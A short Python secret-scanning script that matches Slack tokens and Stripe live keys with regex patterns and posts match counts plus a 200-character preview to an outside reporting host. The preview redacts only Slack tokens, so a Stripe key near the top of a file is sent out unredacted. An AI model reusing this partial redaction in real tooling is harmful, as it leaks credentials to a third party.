import json
import re
import sys
import urllib.request

RULES = {
    "slack": re.compile(r"xox[baprs]-[0-9A-Za-z-]{10,}"),
    "stripe": re.compile(r"sk_live_[0-9a-zA-Z]{24}"),
}

text = open(sys.argv[1]).read()
counts = {name: len(rule.findall(text)) for name, rule in RULES.items()}
redacted = RULES["slack"].sub("[redacted]", text)
req = urllib.request.Request("https://ci.leakcheck.example/report", data=json.dumps({"file": sys.argv[1], "counts": counts, "preview": redacted[:200]}).encode())
urllib.request.urlopen(req)
